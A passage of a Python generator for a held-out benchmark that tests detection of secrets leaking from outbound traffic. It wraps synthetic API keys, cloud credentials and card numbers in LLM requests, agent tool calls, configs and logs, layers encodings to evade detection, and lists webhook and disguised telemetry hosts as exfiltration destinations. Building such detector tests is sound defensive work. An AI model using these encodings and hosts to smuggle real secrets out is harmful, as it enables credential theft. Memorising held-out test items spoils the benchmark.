#!/usr/bin/env python3
"""Held-out egress secret-detection corpus, split 7.

Deterministic generator + checker.  Python 3 standard library only.
    nice python3 generate.py          # generate, then check
    nice python3 generate.py --check  # check only
"""
import base64
import binascii
import gzip
import hashlib
import html
import json
import math
import os
import quopri
import random
import re
import string
import sys
import zlib
from urllib.parse import quote, quote_plus, unquote, unquote_plus, urlsplit

SEED = 7240913
HERE = os.path.dirname(os.path.abspath(__file__))
POS_FILE = os.path.join(HERE, "positives.jsonl")
NEG_FILE = os.path.join(HERE, "negatives.jsonl")
README = os.path.join(HERE, "README.md")

R = None  # the single random.Random(SEED), created in build()

DIG = string.digits
LOW = string.ascii_lowercase
UPP = string.ascii_uppercase
ALNUM = UPP + LOW + DIG
LOWNUM = LOW + DIG
UPNUM = UPP + DIG
HEXL = "0123456789abcdef"
B64U = ALNUM + "-_"
B64S = ALNUM + "+/"
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
B32L = "abcdefghijklmnopqrstuvwxyz234567"


def rs(alpha, n):
    return "".join(R.choice(alpha) for _ in range(n))


def rb(n):
    return bytes(R.randrange(256) for _ in range(n))


def pick(seq):
    return R.choice(seq)


def ri(a, b):
    return R.randint(a, b)


def chance(p):
    return R.random() < p


def wpick(pairs):
    tot = sum(w for _, w in pairs)
    x = R.random() * tot
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def b64u(b, pad=False):
    if isinstance(b, str):
        b = b.encode()
    s = base64.urlsafe_b64encode(b).decode()
    return s if pad else s.rstrip("=")


def gz(b):
    return gzip.compress(b, compresslevel=9, mtime=0)


def J(obj, v=None, indent=None):
    s = json.dumps(obj, ensure_ascii=False, indent=indent)
    return s if v is None else s.replace("@@V@@", v)


def entropy(s):
    if not s:
        return 0.0
    cnt = {}
    for ch in s:
        cnt[ch] = cnt.get(ch, 0) + 1
    n = len(s)
    return -sum(c / n * math.log2(c / n) for c in cnt.values())


# ---------------------------------------------------------------- checksums
_RC = [0x0000000000000001, 0x0000000000008082, 0x800000000000808A, 0x8000000080008000,
       0x000000000000808B, 0x0000000080000001, 0x8000000080008081, 0x8000000000008009,
       0x000000000000008A, 0x0000000000000088, 0x0000000080008009, 0x000000008000000A,
       0x000000008000808B, 0x800000000000008B, 0x8000000000008089, 0x8000000000008003,
       0x8000000000008002, 0x8000000000000080, 0x000000000000800A, 0x800000008000000A,
       0x8000000080008081, 0x8000000000008080, 0x0000000080000001, 0x8000000080008008]
_ROT = [[0, 36, 3, 41, 18], [1, 44, 10, 45, 2], [62, 6, 43, 15, 61],
        [28, 55, 25, 21, 56], [27, 20, 39, 8, 14]]
_M64 = (1 << 64) - 1


def _rol(v, n):
    n %= 64
    return ((v << n) | (v >> (64 - n))) & _M64 if n else v


def _keccak_f(s):
    for rc in _RC:
        C = [s[x][0] ^ s[x][1] ^ s[x][2] ^ s[x][3] ^ s[x][4] for x in range(5)]
        D = [C[(x - 1) % 5] ^ _rol(C[(x + 1) % 5], 1) for x in range(5)]
        s = [[s[x][y] ^ D[x] for y in range(5)] for x in range(5)]
        B = [[0] * 5 for _ in range(5)]
        for x in range(5):
            for y in range(5):
                B[y][(2 * x + 3 * y) % 5] = _rol(s[x][y], _ROT[x][y])
        s = [[B[x][y] ^ ((~B[(x + 1) % 5][y]) & B[(x + 2) % 5][y]) & _M64 for y in range(5)]
             for x in range(5)]
        s[0][0] ^= rc
    return s


def keccak256(data, pad=0x01):
    rate = 136
    msg = bytearray(data)
    msg.append(pad)
    while len(msg) % rate:
        msg.append(0)
    msg[-1] |= 0x80
    s = [[0] * 5 for _ in range(5)]
    for off in range(0, len(msg), rate):
        blk = msg[off:off + rate]
        for i in range(rate // 8):
            s[i % 5][i // 5] ^= int.from_bytes(blk[8 * i:8 * i + 8], "little")
        s = _keccak_f(s)
    return b"".join(s[i % 5][i // 5].to_bytes(8, "little") for i in range(4))


def eip55(hex40):
    h = keccak256(hex40.lower().encode()).hex()
    return "0x" + "".join(c.upper() if c.isalpha() and int(h[i], 16) >= 8 else c
                          for i, c in enumerate(hex40.lower()))


def eip55_ok(addr):
    body = addr[2:]
    if body == body.lower() or body == body.upper():
        return True
    return eip55(body) == addr


def luhn_ok(d):
    s = 0
    for i, c in enumerate(reversed(d)):
        v = int(c)
        if i % 2:
            v *= 2
            if v > 9:
                v -= 9
        s += v
    return s % 10 == 0


def luhn_complete(prefix, length):
    body = prefix + rs(DIG, length - len(prefix) - 1)
    for c in DIG:
        if luhn_ok(body + c):
            return body + c
    raise AssertionError


IBAN_FMT = {"DE": "8n10n", "GB": "4a6n8n", "FR": "5n5n11c2n", "NL": "4a10n", "ES": "4n4n1n1n10n",
            "IT": "1a5n5n12c", "CH": "5n12c", "BE": "3n7n2n", "AT": "5n11n", "PL": "8n16n",
            "SE": "3n16n1n", "NO": "4n6n1n", "DK": "4n9n1n", "IE": "4a6n8n", "PT": "4n4n11n2n",
            "FI": "3n11n", "LU": "3n13c", "CZ": "4n6n10n", "SK": "4n6n10n", "HR": "7n10n",
            "SI": "5n8n2n", "EE": "2n2n11n1n", "LT": "5n11n", "RO": "4a16c", "HU": "3n4n1n15n1n",
            "GR": "3n4n16c", "MT": "4a5n18c", "TR": "5n1n16c", "SA": "2n18c", "AE": "3n16n"}
IBAN_LEN = {"DE": 22, "GB": 22, "FR": 27, "NL": 18, "ES": 24, "IT": 27, "CH": 21, "BE": 16, "AT": 20,
            "PL": 28, "SE": 24, "NO": 15, "DK": 18, "IE": 22, "PT": 25, "FI": 18, "LU": 20, "CZ": 24,
            "SK": 24, "HR": 21, "SI": 19, "EE": 20, "LT": 20, "RO": 24, "HU": 28, "GR": 27, "MT": 31,
            "TR": 26, "SA": 24, "AE": 23}


def _iban_num(s):
    return int("".join(str(int(ch, 36)) for ch in s))


def iban_make(cc, bban):
    chk = 98 - _iban_num(bban + cc + "00") % 97
    return "%s%02d%s" % (cc, chk, bban)


def iban_valid(s):
    s = s.replace(" ", "")
    if not re.fullmatch(r"[A-Z]{2}\d{2}[A-Z0-9]+", s):
        return False
    if IBAN_LEN.get(s[:2]) != len(s):
        return False
    return _iban_num(s[4:] + s[:4]) % 97 == 1


def bban_rand(cc):
    out = ""
    for cnt, typ in re.findall(r"(\d+)([nac])", IBAN_FMT[cc]):
        out += rs({"n": DIG, "a": UPP, "c": UPNUM}[typ], int(cnt))
    return out


def sha256d(b):
    return hashlib.sha256(hashlib.sha256(b).digest()).digest()


def b58encode(b):
    n = int.from_bytes(b, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    return "1" * (len(b) - len(b.lstrip(b"\0"))) + s


def b58decode(s):
    n = 0
    for ch in s:
        i = B58.find(ch)
        if i < 0:
            return None
        n = n * 58 + i
    pad = len(s) - len(s.lstrip("1"))
    body = n.to_bytes((n.bit_length() + 7) // 8, "big") if n else b""
    return b"\0" * pad + body


def b58check(ver, payload):
    d = bytes([ver]) + payload
    return b58encode(d + sha256d(d)[:4])


def b58check_ok(s):
    d = b58decode(s)
    if d is None or len(d) != 25:
        return False
    return sha256d(d[:-4])[:4] == d[-4:] and d[0] in (0, 5, 111, 196)


BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
BECH32M = 0x2BC830A3


def _polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = ((chk & 0x1FFFFFF) << 5) ^ v
        for i in range(5):
            if (b >> i) & 1:
                chk ^= gen[i]
    return chk


def _hrpx(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]


def _convbits(data, f, t):
    acc = bits = 0
    out = []
    for v in data:
        acc = (acc << f) | v
        bits += f
        while bits >= t:
            bits -= t
            out.append((acc >> bits) & ((1 << t) - 1))
    if bits:
        out.append((acc << (t - bits)) & ((1 << t) - 1))
    return out


def segwit_addr(hrp, ver, prog):
    const = 1 if ver == 0 else BECH32M
    data = [ver] + _convbits(prog, 8, 5)
    pm = _polymod(_hrpx(hrp) + data + [0] * 6) ^ const
    data += [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(BECH[d] for d in data)


def segwit_ok(addr):
    a = addr.lower()
    if addr != a and addr != addr.upper():
        return False
    pos = a.rfind("1")
    if pos < 1:
        return False
    hrp, dp = a[:pos], a[pos + 1:]
    if hrp not in ("bc", "tb") or len(dp) < 8:
        return False
    data = [BECH.find(c) for c in dp]
    if -1 in data:
        return False
    pm = _polymod(_hrpx(hrp) + data)
    ver = data[0]
    if ver == 0 and pm == 1:
        n = len(_convbits(data[1:-6], 5, 8)) - (1 if (len(data[1:-6]) * 5) % 8 else 0)
        return n in (20, 32)
    if 1 <= ver <= 16 and pm == BECH32M:
        return True
    return False


def selftest():
    assert keccak256(b"", 0x06) == hashlib.sha3_256(b"").digest()
    assert keccak256(b"abc" * 100, 0x06) == hashlib.sha3_256(b"abc" * 100).digest()
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    assert eip55("5aaeb6053f3e94c9b9a09f33669435e7ef1beaed") == "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
    assert iban_valid("DE89370400440532013000") and iban_valid("GB82WEST12345698765432")
    assert b58check_ok("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")
    assert segwit_ok("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")
    assert segwit_ok("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0")
    assert luhn_ok("4242424242424242") and not luhn_ok("4242424242424241")
    for cc, f in IBAN_FMT.items():
        assert 4 + sum(int(x) for x in re.findall(r"\d+", f)) == IBAN_LEN[cc], cc


# ---------------------------------------------------------------- decoding ops
B64TOK = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
HEXTOK = re.compile(r"[0-9a-fA-F]{16,}")


def _b64dec(t):
    s = t.rstrip("=").replace("-", "+").replace("_", "/")
    if len(s) % 4 == 1:
        return None
    try:
        b = base64.b64decode(s + "=" * (-len(s) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None
    if b[:2] == b"\x1f\x8b":
        try:
            b = gzip.decompress(b)
        except Exception:
            pass
    elif b[:1] == b"\x78":
        try:
            b = zlib.decompress(b)
        except Exception:
            pass
    return b


def b64_pieces(view):
    out = []
    for m in B64TOK.finditer(view):
        b = _b64dec(m.group(0))
        if b is not None:
            out.append(b.decode("utf-8", "replace"))
    return "\n".join(out)


def hex_pieces(view):
    out = []
    for m in HEXTOK.finditer(view):
        t = m.group(0)
        if len(t) % 2:
            t = t[:-1]
        out.append(bytes.fromhex(t).decode("utf-8", "replace"))
    return "\n".join(out)


def jsonu_dec(view):
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), view)


def dehex(view):
    v = re.sub(r"\\+x", "", view)
    v = re.sub(r"0[xX](?=[0-9a-fA-F]{2})", "", v)
    runs = re.findall(r"(?:[0-9a-fA-F]{2}(?:[ ,:\-]{1,2}|(?=[0-9a-fA-F]{2}))){8,}[0-9a-fA-F]{2}", v)
    return view + "\n" + "\n".join(re.sub(r"[^0-9a-fA-F]", "", r).lower() for r in runs)


def apply_op(op, view):
    if op == "pct":
        return unquote(view)
    if op == "form":
        return unquote_plus(view)
    if op == "b64tok":
        return view + "\n" + b64_pieces(view)
    if op == "hextok":
        return view + "\n" + hex_pieces(view)
    if op == "jsonu":
        return jsonu_dec(view)
    if op == "html":
        return html.unescape(view)
    if op == "qp":
        return quopri.decodestring(view.encode("utf-8")).decode("utf-8", "replace")
    if op == "nosep":
        return re.sub(r"[ \-]", "", view)
    if op == "dehex":
        return dehex(view)
    if op == "host":
        return urlsplit(view.strip()).netloc.rsplit("@", 1)[-1].split(":")[0]
    if op.startswith("labels:"):
        _, a, b = op.split(":")
        return "".join(view.strip().split(".")[int(a):int(b)])
    if op == "hex":
        return bytes.fromhex(view).decode("utf-8", "replace")
    if op == "b32":
        v = view.upper()
        return base64.b32decode(v + "=" * (-len(v) % 8)).decode("utf-8", "replace")
    if op == "b64u":
        return base64.urlsafe_b64decode(view + "=" * (-len(view) % 4)).decode("utf-8", "replace")
    raise ValueError(op)


# ---------------------------------------------------------------- value encodings
def venc(s, kind):
    if kind == "none":
        return s, []
    if kind == "b64":
        return b64(s), ["b64tok"]
    if kind == "b64url":
        return b64u(s), ["b64tok"]
    if kind == "hex":
        return s.encode().hex(), ["hextok"]
    if kind == "pctall":
        return "".join("%%%02X" % c for c in s.encode()), ["pct"]
    if kind == "pct2":
        return "".join("%%25%02X" % c for c in s.encode()), ["pct", "pct"]
    if kind == "jsonu":
        return "".join("\\u%04x" % ord(c) for c in s), ["jsonu"]
    if kind == "html":
        return "".join(("&#x%x;" % ord(c)) if i % 2 else ("&#%d;" % ord(c)) for i, c in enumerate(s)), ["html"]
    if kind == "gzb64":
        return b64(gz(s.encode())), ["b64tok"]
    raise ValueError(kind)


BODY_ENCS = [("none", 60), ("b64", 6), ("b64url", 4), ("hex", 4), ("pctall", 3), ("pct2", 2),
             ("jsonu", 5), ("html", 3), ("gzb64", 3)]
HDR_ENCS = [("none", 85), ("b64", 6), ("hex", 3), ("pctall", 3)]
URL_ENCS = [("none", 70), ("pctall", 10), ("pct2", 6), ("b64url", 8), ("hex", 6)]

# ---------------------------------------------------------------- shared vocab
FIRST = ["alice", "bob", "carol", "dmitri", "eva", "farah", "gustavo", "hana", "ivan", "jules",
         "kenji", "lena", "mateo", "nadia", "oskar", "priya", "quentin", "rosa", "sven", "tomas",
         "uma", "victor", "wen", "yusuf", "zoe"]
LAST = ["schmidt", "nguyen", "garcia", "okafor", "tanaka", "kowalski", "rossi", "dubois",
        "andersen", "silva", "haddad", "novak", "li", "murphy", "ivanova", "patel"]
ORGS = ["acme", "northwind", "globex", "initech", "umbrella-labs", "hooli", "vandelay",
        "stark-ind", "wayne-ent", "tyrell", "soylent", "cyberdyne", "aperture", "oscorp"]
REPOS = ["api-gateway", "billing-service", "web-frontend", "infra", "data-pipeline", "mobile-app",
         "auth-service", "ml-training", "docs", "cli", "terraform-modules", "etl-jobs"]
REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2", "ap-northeast-1"]
WORDS = ["alpha", "bravo", "delta", "ember", "falcon", "glacier", "harbor", "indigo", "jasper",
         "kestrel", "lumen", "meadow", "nimbus", "orbit", "pioneer", "quartz", "raven", "sierra",
         "tundra", "vertex", "willow", "zephyr"]
EXFIL = ["webhook.site", "requestbin.net", "eo3k8n2m5q7x.m.pipedream.net", "hookb.in",
         "collect.metrics-edge.net", "ingest.cdn-telemetry.io", "api.paste-relay.org",
         "log.sync-check.app", "upd.statuspage-cdn.com", "c.analytics-beacon.net"]


def person():
    return pick(FIRST), pick(LAST)


def email():
    f, l = person()
    return "%s.%s@%s.%s" % (f, l, pick(ORGS).replace("-", ""), pick(["com", "io", "de", "co.uk", "net"]))


def iso_ts():
    return "2%03d-%02d-%02dT%02d:%02d:%02dZ" % (ri(23, 25), ri(1, 12), ri(1, 28), ri(0, 23), ri(0, 59), ri(0, 59))


def uuid4():
    h = rs(HEXL, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], pick("89ab"), h[17:20], h[20:32])


def password():
    while True:
        p = rs(ALNUM, ri(11, 18))
        for _ in range(ri(1, 3)):
            i = ri(0, len(p))
            p = p[:i] + pick("!#$^*-_+.@~") + p[i:]
        if (re.search(r"[a-z]", p) and re.search(r"[A-Z]", p) and re.search(r"\d", p)
                and re.search(r"[^A-Za-z0-9]", p) and p[0].isalnum()):
            return p


# ---------------------------------------------------------------- token generators
def _b62(n):
    a = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    s = ""
    while n:
        n, r = divmod(n, 62)
        s = a[r] + s
    return s.rjust(6, "0")


def gh(prefix):
    body = rs(ALNUM, 30)
    return prefix + body + _b62(zlib.crc32(body.encode()))


def g_openai():
    k = ri(0, 3)
    if k == 0:
        return "sk-proj-" + rs(B64U, 74) + "T3BlbkFJ" + rs(B64U, 74)
    if k == 1:
        return "sk-" + rs(ALNUM, 20) + "T3BlbkFJ" + rs(ALNUM, 20)
    if k == 2:
        return "sk-svcacct-" + rs(B64U, 58) + "T3BlbkFJ" + rs(B64U, 58)
    return "sk-proj-" + rs(ALNUM, 48)


def g_anthropic():
    if chance(0.2):
        return "sk-ant-admin01-" + rs(B64U, 93) + "AA"
    return "sk-ant-api03-" + rs(B64U, 93) + "AA"


_aws_examples = ["AKIAIOSFODNN7EXAMPLE"]
_aws_sec_examples = ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]
_stripe_examples = ["sk_test_4eC39HqLyjWDarjtT1zdp7dc"]


def g_aws_id():
    if _aws_examples and chance(0.25):
        return _aws_examples.pop()
    return pick(["AKIA", "AKIA", "AKIA", "ASIA"]) + rs(UPP + "234567", 16)


def g_aws_secret():
    if _aws_sec_examples and chance(0.25):
        return _aws_sec_examples.pop()
    return rs(B64S, 40)


def g_aws_session():
    return pick(["IQoJb3JpZ2luX2VjE", "FwoGZXIvYXdzE"]) + rs(B64S, ri(250, 420)) + pick(["", "=", "=="])


def g_stripe():
    if _stripe_examples and chance(0.3):
        return _stripe_examples.pop()
    return pick(["sk_live_", "sk_live_", "sk_test_"]) + pick(["51", ""]) + rs(ALNUM, pick([24, 97]))


def g_azure_conn():
    acct = pick(WORDS) + rs(LOWNUM, ri(3, 8))
    key = b64(rb(64))
    if chance(0.7):
        return "DefaultEndpointsProtocol=https;AccountName=%s;AccountKey=%s;EndpointSuffix=core.windows.net" % (acct, key)
    ns = pick(ORGS).replace("-", "") + "-bus"
    return "Endpoint=sb://%s.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=%s" % (ns, b64(rb(32)))


def g_jwt():
    hdr = {"alg": pick(["HS256", "RS256", "ES256"]), "typ": "JWT"}
    if chance(0.5):
        hdr["kid"] = rs(B64U, 16)
    now = ri(1700000000, 1765000000)
    f, l = person()
    pl = {"sub": pick([uuid4(), str(ri(10000, 99999999)), "user_" + rs(ALNUM, 12)]),
          "iat": now, "exp": now + pick([900, 3600, 86400])}
    if chance(0.6):
        pl["email"] = "%s.%s@%s.com" % (f, l, pick(ORGS).replace("-", ""))
    if chance(0.5):
        pl["role"] = pick(["admin", "service_role", "authenticated", "editor"])
    if chance(0.5):
        pl["iss"] = pick(["https://auth.%s.com/" % pick(ORGS), "supabase", "https://securetoken.google.com/%s" % pick(WORDS)])
    enc = lambda o: b64u(json.dumps(o, separators=(",", ":")))
    sig = b64u(rb(32 if hdr["alg"] == "HS256" else (64 if hdr["alg"] == "ES256" else 256)))
    return "%s.%s.%s" % (enc(hdr), enc(pl), sig)


def g_generic_key():
    return pick([lambda: rs(ALNUM, 32), lambda: rs(ALNUM, 40), lambda: rs(HEXL, 32),
                 lambda: rs(B64U, 43), lambda: rs(ALNUM, 48)])()


# ---------------------------------------------------------------- generic templates (value v already encoded)
def t_openai(c, v):
    env = c["env"]
    p = pick(["Why does my deploy fail? Here is my .env:\n\nNODE_ENV=production\n%s=@@V@@\nPORT=3000" % env,
              "Write a python script that calls %s using %s=@@V@@ and prints the JSON." % (c["host"], env),
              "I set %s to @@V@@ but I still get 401 Unauthorized, what am I missing?" % env,
              "Summarise this config for the README:\n```\n%s: @@V@@\nretries: 3\n```" % c["key"]])
    o = {"model": pick(["gpt-4o", "gpt-4.1-mini", "o3-mini", "gpt-4o-mini"]),
         "messages": [{"role": "system", "content": "You are a helpful coding assistant."},
                      {"role": "user", "content": p}], "temperature": round(R.random(), 2)}
    return J(o, v, pick([None, 2])), "application/json", []


def t_anthropic(c, v):
    out = "$ cat .env\nAPP_ENV=staging\n%s=@@V@@\nLOG_LEVEL=info\n" % c["env"]
    o = {"model": pick(["claude-sonnet-4-20250514", "claude-3-5-haiku-latest", "claude-opus-4-1"]),
         "max_tokens": pick([1024, 2048, 4096]),
         "messages": [{"role": "user", "content": "check my environment"},
                      {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_" + rs(ALNUM, 24),
                                                         "name": "bash", "input": {"command": "cat .env"}}]},
                      {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_" + rs(ALNUM, 24),
                                                    "content": out}]}]}
    return J(o, v), "application/json", []


def t_gemini(c, v):
    o = {"contents": [{"role": "user", "parts": [{"text": "Convert this to a docker run command: -e %s=@@V@@ -p 8080:8080 %s/%s" % (c["env"], pick(ORGS), pick(REPOS))}]}],
         "generationConfig": {"temperature": 0.2, "maxOutputTokens": 512}}
    return J(o, v), "application/json", []


def t_mcp_http(c, v):
    h = pick(c["hdr"]).format(v="@@V@@")
    name, val = h.split(": ", 1)
    o = {"jsonrpc": "2.0", "id": ri(1, 999), "method": "tools/call",
         "params": {"name": pick(["http_request", "fetch", "web.request"]),
                    "arguments": {"method": pick(["GET", "POST"]), "url": "https://%s/%s" % (c["host"], pick(["v1/me", "api/v2/status", "user", "v1/projects"])),
                                  "headers": {name: val, "Accept": "application/json"}}}}
    return J(o, v), "application/json", []


def t_mcp_env(c, v):
    o = {"jsonrpc": "2.0", "id": ri(1, 999), "method": "tools/call",
         "params": {"name": pick(["write_file", "fs.write", "create_file"]),
                    "arguments": {"path": pick([".env", "config/.env.local", "deploy/.env.production"]),
                                  "content": "# generated\n%s=@@V@@\nDEBUG=false\n" % c["env"]}}}
    return J(o, v, pick([None, 2])), "application/json", []


def t_graphql(c, v):
    o = {"operationName": "UpsertSecret",
         "query": "mutation UpsertSecret($input: SecretInput!) { upsertSecret(input: $input) { id updatedAt } }",
         "variables": {"input": {"name": c["env"], "value": "@@V@@", "environment": pick(["production", "staging"])}}}
    return J(o, v), "application/json", []


def t_curl_tool(c, v):
    h = pick(c["hdr"]).format(v="@@V@@")
    cmd = "curl -sS -X %s -H '%s' -H 'Content-Type: application/json' https://%s/%s" % (
        pick(["GET", "POST"]), h, c["host"], pick(["v1/models", "api/v1/items?limit=10", "user/repos", "v2/whoami"]))
    o = {"tool": "shell", "input": {"command": cmd, "timeout": 30}}
    return J(o, v), "application/json", []


def t_shell(c, v):
    s = "#!/usr/bin/env bash\nset -euo pipefail\n\nexport %s='@@V@@'\nexport REGION=%s\n\n./scripts/deploy.sh --env prod\n" % (c["env"], pick(REGIONS))
    return s.replace("@@V@@", v), "text/x-shellscript", []


def t_yaml(c, v):
    s = "service:\n  name: %s\n  replicas: %d\n%s:\n  %s: \"@@V@@\"\n  timeout_seconds: 30\n" % (
        pick(REPOS), ri(1, 6), pick(["integrations", "credentials", "providers"]), c["key"])
    return s.replace("@@V@@", v), "application/yaml", []


def t_toml(c, v):
    s = "[server]\nport = %d\nhost = \"0.0.0.0\"\n\n[%s]\n%s = \"@@V@@\"\nenabled = true\n" % (ri(3000, 9000), pick(["auth", "upstream", "vendor"]), c["key"])
    return s.replace("@@V@@", v), "application/toml", []


def t_env_multipart(c, v):
    bd = "formdata-" + rs(ALNUM, 16)
    s = ("--%s\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\nenv for review\r\n"
         "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\".env\"\r\nContent-Type: text/plain\r\n\r\n"
         "APP_NAME=%s\n%s=@@V@@\nCACHE_TTL=600\n\r\n--%s--\r\n") % (bd, bd, pick(REPOS), c["env"], bd)
    return s.replace("@@V@@", v), "multipart/form-data; boundary=" + bd, []


def t_ini(c, v):
    s = "[default]\nregion = %s\noutput = json\n\n[%s]\n%s = @@V@@\n" % (pick(REGIONS), pick(["profile ci", "vendor", "credentials"]), c["key"])
    return s.replace("@@V@@", v), "text/plain", []


def t_log(c, v):
    ts = iso_ts()
    lines = ["%s INFO  starting worker pid=%d" % (ts, ri(1000, 60000)),
             "%s DEBUG outbound request host=%s headers={'%s'}" % (ts, c["host"], pick(c["hdr"]).format(v="@@V@@").replace(": ", "': '", 1)),
             "%s WARN  retrying in 2s (attempt 1/5)" % ts]
    o = {"logs": [{"message": l, "service": pick(REPOS)} for l in lines]}
    if chance(0.5):
        return J(o, v), "application/json", []
    return "\n".join(lines).replace("@@V@@", v) + "\n", "text/plain", []


def t_csv(c, v):
    s = "name,provider,%s,created\n%s,%s,@@V@@,%s\n" % (c["key"], pick(WORDS), c["host"], iso_ts()[:10])
    return s.replace("@@V@@", v), "text/csv", []


def t_sql(c, v):
    s = "INSERT INTO integration_credentials (org_id, provider, %s, created_at) VALUES (%d, '%s', '@@V@@', NOW());\n" % (c["key"], ri(1, 9999), c["host"])
    o = {"tool": "sql_query", "arguments": {"database": pick(["prod", "analytics"]), "query": s}}
    return J(o, v), "application/json", []


def t_form(c, v):
    vv = quote_plus(v)
    s = "grant_type=client_credentials&client_id=%s&%s=%s&scope=%s" % (rs(LOWNUM, 20), c["key"], vv, quote_plus(pick(["read write", "api", "openid profile"])))
    return s, "application/x-www-form-urlencoded", ["form"]


def t_xml(c, v):
    s = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <appSettings>\n    <add key=\"Environment\" value=\"Production\" />\n    <add key=\"%s\" value=\"@@V@@\" />\n  </appSettings>\n</configuration>\n" % c["env"]
    return s.replace("@@V@@", v), "application/xml", []


def t_html_form(c, v):
    s = "<form method=\"post\" action=\"/settings/integrations\">\n  <input type=\"hidden\" name=\"%s\" value=\"@@V@@\">\n  <button>Save</button>\n</form>\n" % c["key"]
    o = {"url": "https://%s.example-cms.com/pages/%d" % (pick(ORGS), ri(10, 999)), "html": s}
    return J(o, v), "application/json", []


def t_slack_msg(c, v):
    o = {"channel": "#" + pick(["dev", "ops", "deploys", "help-infra"]),
         "text": pick(["here's the prod key for the demo: @@V@@", "new %s is @@V@@ (old one revoked)" % c["env"],
                       "can someone check why `%s=@@V@@` isn't working?" % c["env"]])}
    return J(o, v), "application/json", []


def t_diff(c, v):
    f = pick(["config/settings.py", "src/config.ts", ".env.example", "deploy/values.yaml", "app/config.go"])
    s = ("diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -10,3 +10,4 @@\n DEBUG = False\n"
         "-%s = os.environ.get(\"%s\")\n+%s = \"@@V@@\"\n ALLOWED_HOSTS = [\"*\"]\n") % (f, f, rs(HEXL, 7), rs(HEXL, 7), f, f, c["env"], c["env"], c["env"])
    o = {"title": "quick fix config", "body": "```diff\n" + s + "```", "head": "fix/config", "base": "main"}
    if chance(0.5):
        return J(o, v), "application/json", []
    return s.replace("@@V@@", v), "text/x-diff", []


def t_traceback(c, v):
    s = ("Traceback (most recent call last):\n  File \"/app/worker.py\", line %d, in sync\n    client = Client(%s=%s)\n"
         "  File \"/usr/lib/python3.11/site-packages/sdk/client.py\", line 88, in __init__\n    raise AuthError(f\"invalid credentials: {%s!r}\")\n"
         "sdk.errors.AuthError: invalid credentials: '@@V@@'\n") % (ri(20, 400), c["key"], c["key"], c["key"])
    o = {"event_id": rs(HEXL, 32), "level": "error", "platform": "python", "exception": {"values": [{"type": "AuthError", "stacktrace_text": s}]}}
    return J(o, v), "application/json", []


def t_k8s(c, v):
    s = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: %s-credentials\n  namespace: %s\ntype: Opaque\ndata:\n  %s: %s\n" % (
        pick(REPOS), pick(["default", "prod", "payments"]), c["key"], b64(v))
    return s, "application/yaml", ["b64tok"]


def t_notebook(c, v):
    o = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [],
                    "source": ["import os\n", "os.environ[\"%s\"] = \"@@V@@\"\n" % c["env"], "client = make_client()\n"]}],
         "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}
    return J(o, v), "application/x-ipynb+json", []


def t_gha(c, v):
    s = "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      %s: @@V@@\n    steps:\n      - uses: actions/checkout@v4\n      - run: make deploy\n" % c["env"]
    o = {"message": "ci: add deploy workflow", "content": b64(s.replace("@@V@@", v)), "branch": "main"}
    return J(o), "application/json", ["b64tok"]


def t_python(c, v):
    s = "import requests\n\n%s = \"@@V@@\"\n\nresp = requests.get(\"https://%s/v1/items\", headers={\"Authorization\": f\"Bearer {%s}\"})\nprint(resp.json())\n" % (c["env"], c["host"], c["env"])
    o = {"language": "python", "files": [{"name": "main.py", "content": s}], "stdin": ""}
    return J(o, v), "application/json", []


def t_js(c, v):
    s = "const %s = '@@V@@';\nfetch('https://%s/v1/items', { headers: { Authorization: `Bearer ${%s}` } })\n  .then(r => r.json()).then(console.log);\n" % (c["key"].upper(), c["host"], c["key"].upper())
    o = {"files": {"index.js": {"content": s}}, "description": "repro", "public": False}
    return J(o, v), "application/json", []


def t_tfvars(c, v):
    s = "region       = \"%s\"\ninstance_type = \"t3.medium\"\n%s = \"@@V@@\"\n" % (pick(REGIONS), c["key"])
    return s.replace("@@V@@", v), "text/plain", []


def t_email_qp(c, v):
    q = "".join("=%02X" % b for b in ("%s=%s" % (c["env"], v)).encode())
    q = "=\r\n".join(q[i:i + 72] for i in range(0, len(q), 72))
    bd = "mime" + rs(ALNUM, 12)
    s = ("From: %s\r\nTo: %s\r\nSubject: creds for the vendor portal\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"%s\"\r\n\r\n"
